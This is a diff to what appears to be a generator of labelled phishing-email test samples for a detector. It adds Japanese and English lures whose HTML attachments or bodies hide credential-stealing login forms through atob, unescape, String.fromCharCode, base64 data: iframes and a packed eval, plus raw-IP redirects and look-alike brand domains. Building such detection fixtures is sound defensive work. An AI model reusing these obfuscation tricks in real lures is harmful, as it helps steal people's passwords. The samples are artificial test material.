@@ -6,6 +6,8 @@
 # Every name, address, number and domain is invented except the brand
 # names and brand domains that the look-alike hosts imitate.
 
+import base64
+
 from gen import Msg, Att
 
 F, S, U, L = ("attack.freemail_sender", "attack.signature_mismatch",
@@ -25,6 +27,28 @@ KANRI = ("管理者", "kanri@sakura-hoken.example")
 
 PUNY_MIZUHO = "mizuh\u043ebank".encode("idna").decode()      # Cyrillic o
 PUNY_RAKUTEN = "r\u0430kuten-card".encode("idna").decode()   # Cyrillic a
+
+
+def b64(t):
+    return base64.b64encode(t.encode("utf-8")).decode("ascii")
+
+
+def pct(t):
+    return "".join("%%%02X" % c for c in t.encode("utf-8"))
+
+
+def char_codes(t):
+    return ",".join(str(ord(c)) for c in t)
+
+
+# Login forms that lures hide from markup scanners (third round).
+FORM_JA = ('<form method="post" action="https://seikyu-view-login.example/auth.php">'
+           'メールアドレス <input type="email" name="m"><br>'
+           'パスワード <input type="password" name="p"><br>'
+           '<input type="submit" value="請求書を表示"></form>')
+FORM_EN = ('<form method="post" action="https://docs-share-verify.example/s">'
+           'Email <input name="e"> Password <input type="password" name="p">'
+           '<button>View document</button></form>')
 
 
 def lure(name, cats, frm, to, subject, **kw):
@@ -1566,5 +1590,168 @@ lure("lure-089-traditional-quote.eml", [F, K],
      如有任何問題，請隨時與我們聯繫。
 
      西門貿易 營業部
+     """),
+
+# ---------------------------------------------------------------- third round: hidden forms, couriers, raw IPs, one stray hanzi
+
+lure("lure-090-html-atob-form.eml", [C, F, T],
+     ("経理部 請求担当", "seikyu.keiri.desk@gmail.com"), [SATO],
+     "請求書送付のご案内",
+     charset="iso-2022-jp",
+     note="the attached invoice page writes its login form with document.write(atob(...)): no form in the markup",
+     attach=[Att("請求書_0512.html", "html", "text/html",
+                 page='<html><head><meta charset="utf-8"><title>請求書</title></head><body>'
+                      '<script>document.write(atob("' + b64(FORM_JA) + '"));</script>'
+                      '</body></html>\n')],
+     text="""
+     佐藤様
+
+     いつもお世話になっております。
+     今月分の請求書を添付いたしました。
+     添付ファイルを開いてご確認ください。
+
+     経理部 請求担当
+     """),
+
+lure("lure-091-html-body-unescape.eml", [C, T],
+     ("Document Center", "no-reply@docs-share-center.example"), [TANAKA],
+     "Invoice shared with you",
+     charset="utf-8",
+     note="HTML body whose script writes a login form from unescape(\"%3C%66...\")",
+     html_body="""
+     <html><head><meta charset="utf-8"></head><body>
+     <p>A document has been shared with you.</p>
+     <div id="v"></div>
+     <script>document.getElementById("v").innerHTML = unescape("PCT");</script>
+     <p>Document Center</p>
+     </body></html>
+     """.replace("PCT", pct(FORM_EN))),
+
+lure("lure-092-html-redirect-ip.eml", [C, L, T],
+     ("Accounts Payable", "ap@remit-advice-notice.example"), [SUZUKI],
+     "Remittance advice 2025-05",
+     charset="us-ascii",
+     note="the attached page sends the reader to a raw IP address decoded from base64",
+     attach=[Att("Remittance_0522.htm", "html", "text/html",
+                 page='<html><body><p>Loading...</p><script>window.location.href = atob("'
+                      + b64("http://203.0.113.61:8080/owa/auth/logon.aspx") + '");</script>'
+                      '</body></html>\n')],
+     text="""
+     Hello,
+
+     Please find attached the remittance advice for the May payment.
+
+     Accounts Payable
+     """),
+
+lure("lure-093-html-iframe-data.eml", [C, F, T],
+     ("Microsoft 365", "m365.document.share@outlook.com"), [TANAKA],
+     "Shared invoice document",
+     charset="us-ascii",
+     note="the attached page shows its login form in an iframe of a base64 data: page",
+     attach=[Att("Invoice_View.html", "html", "text/html",
+                 page='<html><body><iframe width="100%" height="400" src="data:text/html;base64,'
+                      + b64('<html><body>' + FORM_EN + '</body></html>') + '"></iframe></body></html>\n')],
+     text="""
+     You have received a shared invoice.
+     Open the attached file to view it.
+
+     Microsoft 365
+     """),
+
+lure("lure-094-html-charcodes.eml", [C, T],
+     ("請求書発行センター", "center@billing-docs-notice.example"), [SATO],
+     "【再送】請求書のご確認",
+     charset="utf-8",
+     note="the attached page writes its form from a String.fromCharCode list",
+     attach=[Att("請求書確認.htm", "html", "text/html",
+                 page='<html><body><script>document.write(String.fromCharCode('
+                      + char_codes(FORM_JA) + '));</script></body></html>\n')],
+     text="""
+     佐藤様
+
+     先日お送りした請求書を再送いたします。
+     添付ファイルを開いてご確認ください。
+
+     請求書発行センター
+     """),
+
+lure("lure-095-html-packed.eml", [C, T, F],
+     ("Payroll", "payroll.hr.office@gmail.com"), [YAMAMOTO],
+     "Updated document: salary review",
+     charset="us-ascii",
+     note="the attached page hands a packed script to eval: nothing to decode, must not pass as clean",
+     attach=[Att("Salary_Review.html", "html", "text/html",
+                 page="<html><body><script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};"
+                      "while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
+                      "('0.1(\\'<2 3=\"4\">\\');',5,5,'document|write|input|type|password'.split('|'),0,{}))"
+                      "</script></body></html>\n")],
+     text="""
+     Hello,
+
+     Please review the attached updated document before Friday.
+
+     Payroll
+     """),
+
+lure("lure-096-courier-mailbox-password.eml", [C, T],
+     ("Parcel Delivery Service", "notice@parcel-release-desk.example"), [TANAKA],
+     "Courier notice: your package is on hold",
+     charset="us-ascii",
+     note="English courier notice asking for the mailbox password before the parcel is released",
+     text="""
+     Dear customer,
+
+     Your package is on hold at our depot because the delivery address
+     could not be confirmed. Sign in with your email password to release
+     the parcel and reschedule your delivery:
+     https://parcel-release-desk.example/release
+
+     Parcel Delivery Service
+     """),
+
+lure("lure-097-shop-delivery-change.eml", [C, L, T],
+     ("Amazon.co.jp", "order-update@amazon-co-jp-order.example"), [SUZUKI],
+     "【重要】お届け先の変更が必要です",
+     charset="iso-2022-jp",
+     note="shop notice: the delivery address to change after signing in at a brand look-alike",
+     text="""
+     鈴木 様
+
+     ご注文の商品は、お届け先の住所に不備があるため発送を保留しております。
+     マイページにログインのうえ、配送先を変更してください。
+     https://amazon-co-jp-order.example/mypage
+
+     Amazon.co.jp カスタマーサービス
+     """),
+
+lure("lure-098-quota-bare-ip.eml", [C, L, T],
+     ("Webmail Administrator", "admin@webmail-quota-desk.example"), [YAMAMOTO],
+     "Mailbox quota warning",
+     charset="us-ascii",
+     note="English quota lure; the raw IP link is written without a scheme, with a port and a path",
+     text="""
+     Dear user,
+
+     Your email storage is 98% full and new messages will be returned.
+     Log in here to increase your mailbox: 198.51.100.83:2096/webmail/quota
+     Alternative address: 198.51.100.83/owa/
+
+     Webmail Administrator
+     """),
+
+lure("lure-099-enquiry-one-hanzi.eml", [K, T, F],
+     ("李 明", "liming.trade.sales@gmail.com"), [INFO],
+     "製品についてのお問い合わせ",
+     charset="utf-8",
+     note="enquiry in machine-translated Japanese with one simplified form (产) and no other",
+     text="""
+     ご担当者様
+
+     はじめまして。貴社の製品にとても興味があります。
+     产品のカタログを送ってください。価格も教えてください。
+     よろしくお願いします。
+
+     李 明
      """),
 ]
